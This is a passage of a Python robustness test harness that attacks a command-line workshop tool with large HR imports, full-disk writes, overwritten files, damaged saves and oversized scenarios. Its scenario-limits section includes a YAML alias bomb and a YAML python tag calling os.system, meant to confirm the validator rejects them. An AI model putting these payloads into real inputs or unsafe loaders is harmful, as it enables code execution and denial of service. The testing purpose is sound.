@case("HR exports", "30,000 rows")
def _rows_30k(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return either(bench.cli(tmp, "import-org", str(write(tmp, "big.csv", rows(30_000))), "--out", str(tmp / "o.yaml")))


@case("HR exports", "100,000 rows")
def _rows_100k(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return either(bench.cli(tmp, "import-org", str(write(tmp, "big.csv", rows(100_000))), "--out", str(tmp / "o.yaml")))


@case("HR exports", "15,000 rows whose managers are all unknown")
def _rows_unknown(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    text = HEADER + "".join(f"p{i},Person {i},Rep,Sales,boss{i}\n" for i in range(15_000))
    return sentence(bench.cli(tmp, "import-org", str(write(tmp, "big.csv", text)), "--out", str(tmp / "o.yaml")))


@case("HR exports", "control: 10,000 rows import")
def _rows_10k(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    return imported(bench, tmp, rows(10_000), expect=("Person 9999",))


# ---- data lost: full disks, in-place writes, files replaced without asking


def unchanged(run: Run, path: Path, before: bytes, refused: bool = True) -> Outcome:
    why = failure(run)
    if not why and refused and run.code == 0:
        why = "wrong: it went ahead"
    if not why and (not path.exists() or path.read_bytes() != before):
        why = "wrong: the existing file was changed or cut short"
    return Outcome(not why, why, run.seconds, run.peak_mib)


@case("data lost", "import-org --force on a full disk keeps the old scenario whole")
def _import_full(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    target = write(tmp, "org.yaml", scenario_text())
    before = target.read_bytes()
    source = write(tmp, "staff.csv", rows(200))
    run = bench.cli(tmp, "import-org", str(source), "--out", str(target), "--force", file_limit=len(before) + 1000)
    return unchanged(run, target, before)


@case("data lost", "play --save on a full disk keeps the old save whole")
def _save_full(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    target = write(tmp, "game.json", fx.save.read_text(encoding="utf-8"))
    before = target.read_bytes()
    run = bench.cli(
        tmp, "play", str(fx.scenario), "--headless", "--bot", "random", "--save", str(target), file_limit=200
    )
    return unchanged(run, target, before)


@case("data lost", "new --force on a full disk keeps the old scenario whole")
def _new_full(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    target = write(tmp, "mine.yaml", scenario_text())
    before = target.read_bytes()
    run = bench.cli(tmp, "new", str(target), "--force", file_limit=300)
    return unchanged(run, target, before)


@case("data lost", "report --out on a full disk leaves no report without its HTML")
def _report_full(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    sample = tmp / "sample"
    bench.cli(tmp, "report", str(fx.save), "--out", str(sample))
    sizes = sorted(p.stat().st_size for p in sample.iterdir())
    out = tmp / "r"
    run = bench.cli(tmp, "report", str(fx.save), "--out", str(out), file_limit=sizes[-2] + 1)
    why = failure(run)
    left = sorted(p.name for p in out.iterdir()) if out.exists() else []
    if not why and left and "report.html" not in left:
        why = f"wrong: left {', '.join(left)} without report.html"
    if not why and run.code == 0:
        why = "wrong: said it was written"
    return Outcome(not why, why, run.seconds, run.peak_mib)


@case("data lost", "play --save onto an unrelated file")
def _save_over_notes(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    notes = write(tmp, "notes.txt", "my workshop notes\n")
    run = bench.cli(tmp, "play", str(fx.scenario), "--headless", "--bot", "idle", "--save", str(notes))
    return unchanged(run, notes, b"my workshop notes\n")


@case("data lost", "play --save onto a scenario file")
def _save_over_scenario(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    mine = write(tmp, "mine.yaml", scenario_text())
    before = mine.read_bytes()
    run = bench.cli(tmp, "play", str(fx.scenario), "--headless", "--bot", "idle", "--save", str(mine))
    return unchanged(run, mine, before)


@case("data lost", "report --out into a folder holding someone else's report.html")
def _report_over_html(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    out = tmp / "r"
    out.mkdir()
    theirs = write(out, "report.html", "<html>the board's quarterly report</html>")
    run = bench.cli(tmp, "report", str(fx.save), "--out", str(out))
    return unchanged(run, theirs, theirs.read_bytes())


@case("data lost", "report --out onto an existing file")
def _report_onto_file(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    theirs = write(tmp, "r", "a file, not a folder")
    run = bench.cli(tmp, "report", str(fx.save), "--out", str(theirs))
    return unchanged(run, theirs, theirs.read_bytes())


@case("data lost", "control: play --save again over its own save")
def _save_again(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    target = write(tmp, "game.json", fx.save.read_text(encoding="utf-8"))
    return accepted(bench.cli(tmp, "play", str(fx.scenario), "--headless", "--bot", "idle", "--save", str(target)))


@case("data lost", "control: report --out again over its own report")
def _report_again(bench: Bench, fx: Fixtures, tmp: Path) -> Outcome:
    bench.cli(tmp, "report", str(fx.save), "--out", str(tmp / "r"))
    return accepted(bench.cli(tmp, "report", str(fx.save), "--out", str(tmp / "r")))


for _how in ("full disk", "read-only"):
    for _language in ("en", "fr"):

        @case("data lost", f"an autosave that fails ({_how}) shows in the window ({_language})")
        def _autosave_fails(bench: Bench, fx: Fixtures, tmp: Path, how=_how, language=_language) -> Outcome:
            (tmp / "data" / "saves").mkdir(parents=True)
            limit = 100 if how == "full disk" else None
            how_arg = "full" if how == "full disk" else "read-only"
            run = bench.driver(tmp, WINDOW_PLAY_FULL_DISK, str(fx.scenario), language, how_arg, file_limit=limit)
            shown = driven(run)
            why = failure(run)
            if not why and shown.get("top") != "BoardScene":
                why = f"wrong: the window shows {shown.get('top')} ({_last(run.err)})"
            if not why and not shown.get("banner"):
                why = "wrong: silent (only logged)"
            if not why and "autosave" not in run.err.lower():
                why = "wrong: nothing on the console"
            return Outcome(not why, why, run.seconds, run.peak_mib)


DAMAGED_AUTOSAVES = {
    "cut short": lambda fx: dumped(fx.session_record)[:300],
    "not JSON": lambda fx: "autosave",
    "binary": lambda fx: bytes(range(256)),
    "of another format": lambda fx: session_with(fx, format=1),
}

for _name, _make in DAMAGED_AUTOSAVES.items():

    @case("data lost", f"an autosave {_name} is moved aside with a message, never deleted")
    def _damaged_autosave(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        saves = tmp / "data" / "saves"
        saves.mkdir(parents=True)
        content = make(fx)
        content = content if isinstance(content, bytes) else content.encode()
        write(saves, "autosave.json", content)
        run = bench.driver(tmp, WINDOW_START)
        outcome = window_up(run)
        if not outcome.ok:
            return outcome
        kept = [p for p in saves.iterdir() if p.is_file() and p.read_bytes() == content]
        why = "" if kept else "wrong: the damaged autosave is gone"
        if not why and (saves / "autosave.json").exists():
            why = "wrong: left in place"
        if not why and not driven(run).get("said"):
            why = "wrong: no message"
        return Outcome(not why, why, run.seconds, run.peak_mib)


# ---- three save readers: the same damage, the same limit and sentence everywhere

READER_DAMAGE = {
    "over 16 MiB": lambda fx: dumped(dict(fx.session_record, padding="x" * (17 * 2**20))),
    "nested 5,000 deep": lambda fx: "[" * 5000 + "]" * 5000,
    "cut short": lambda fx: dumped(fx.session_record)[:200],
    "not JSON": lambda fx: "kind: session\n",
    "empty": lambda fx: "",
    "binary": lambda fx: "\x00\x01\x02",
}

for _name, _make in READER_DAMAGE.items():

    @case("three readers", f"a session {_name}: replay, report and the window say the same")
    def _same_sentence(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        saves = tmp / "data" / "saves"
        saves.mkdir(parents=True)
        path = write(saves, "workshop.json", make(fx))
        window = bench.driver(tmp, WINDOW_LOAD, str(path))
        replay = bench.cli(tmp, "replay", str(path))
        report = bench.cli(tmp, "report", str(path), "--out", str(tmp / "r"))
        runs = (window, replay, report)
        why = next((f"{failure(r)} ({n})" for r, n in zip(runs, ("window", "replay", "report")) if failure(r)), "")
        reason = driven(window).get("reason", "")
        if not why and not reason:
            why = "wrong: the window loaded it"
        if not why and not (reason in replay.err and reason in report.err):
            why = f"wrong: three sentences (window: {reason[:50]!r}; replay: {_last(replay.err)[:50]!r})"
        return Outcome(not why, why, sum(r.seconds for r in runs), max(r.peak_mib for r in runs))


# ---- scenario limits that already held (kept so they stay held)


def alias_bomb() -> str:
    text = "format: 1\nid: lol\na: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    for level in "bcdefghijklm":
        text += f"{level}: &{level} [" + ", ".join([f"*{chr(ord(level) - 1)}"] * 9) + "]\n"
    return text


LIMITS = {
    "alias bomb": alias_bomb,
    "python tag": lambda: scenario_text().replace("turns: 10", "turns: !!python/object/apply:os.system ['id']"),
    "3 MB file": lambda: scenario_text() + "# " + "x" * 3_000_000 + "\n",
    "1000-deep flow nesting": lambda: scenario_text() + "notes: " + "[" * 1000 + "1" + "]" * 1000 + "\n",
    "10^9 generated people": lambda: generated(10**9, 2),
    "6 x 199,999 generated people": lambda: scenario_text(
        organization__generate=[{"under": "ceo", "count": 199_999, "id_prefix": f"b{i}_"} for i in range(6)]
    ),
    "NaN value": lambda: scenario_text(signals__0__value=float("nan")),
    "not UTF-8": lambda: "format: 1\nid: caf\xe9\n".encode("latin-1"),
}

for _name, _make in LIMITS.items():

    @case("scenario limits", _name)
    def _limit(bench: Bench, fx: Fixtures, tmp: Path, make=_make) -> Outcome:
        return sentence(bench.cli(tmp, "validate", str(write(tmp, "s.yaml", make()))))


# ------------------------------------------------------------------ the report


def run_case(bench: Bench, fixtures: Fixtures, item: Case) -> tuple[Case, Outcome]:
    folder = Path(tempfile.mkdtemp(dir=bench.scratch))
    try:
        outcome = item.check(bench, fixtures, folder)
    except Exception as error:  # noqa: BLE001 - a broken case is reported, the others still run
        outcome = Outcome(False, f"bench error: {type(error).__name__}: {error}")
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    return item, outcome


def summary(results: list[tuple[Case, Outcome]], show: bool) -> dict:
    classes: dict[str, dict] = {}
    for item, outcome in results:
        entry = classes.setdefault(item.klass, {"cases": 0, "kept": 0, "broken": {}})
        entry["cases"] += 1
        entry["kept"] += outcome.ok
        if not outcome.ok:
            kind = outcome.why.split(":")[0]
            entry["broken"][kind] = entry["broken"].get(kind, 0) + 1
        if show or not outcome.ok:
            entry.setdefault("outcomes", {})[item.name] = outcome.why or "kept"
    total = len(results)
    kept = sum(outcome.ok for _, outcome in results)
    slowest = max(results, key=lambda r: r[1].seconds)
    hungriest = max(results, key=lambda r: r[1].peak_mib)
    return {
        "cases": total,
        "kept": kept,
        "broken": total - kept,
        "slowest": f"{slowest[0].name}: {slowest[1].seconds:.1f} s of processor time",
        "largest peak memory": f"{hungriest[0].name}: {hungriest[1].peak_mib:.0f} MiB",
        "classes": classes,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--repo", type=Path, default=HERE, help="checkout to attack (default: this one)")
    parser.add_argument("--only", help="run only the classes whose name contains this")
    parser.add_argument("--jobs", type=int, default=2, help="cases run at once (default 2)")
    parser.add_argument("--show", action="store_true", help="list every case's outcome, not only the broken ones")
    args = parser.parse_args()
    chosen = [c for c in CASES if not args.only or args.only.lower() in c.klass.lower()]
    with tempfile.TemporaryDirectory(prefix="hostile-") as scratch:
        bench = Bench(args.repo.resolve(), Path(scratch))
        fixtures = Fixtures(bench)
        started = time.perf_counter()
        with ThreadPoolExecutor(args.jobs) as pool:
            results = []
            for item, outcome in pool.map(lambda c: run_case(bench, fixtures, c), chosen):
                print(
                    f"{'kept  ' if outcome.ok else 'BROKEN'} {item.klass}: {item.name} {outcome.why}", file=sys.stderr
                )
                results.append((item, outcome))
    report = summary(results, args.show)
    report["wall_seconds"] = round(time.perf_counter() - started)
    print(json.dumps(report, indent=1, ensure_ascii=False))


if __name__ == "__main__":
    assert errno.EFBIG  # the full-disk cases rely on RLIMIT_FSIZE (POSIX)
    main()
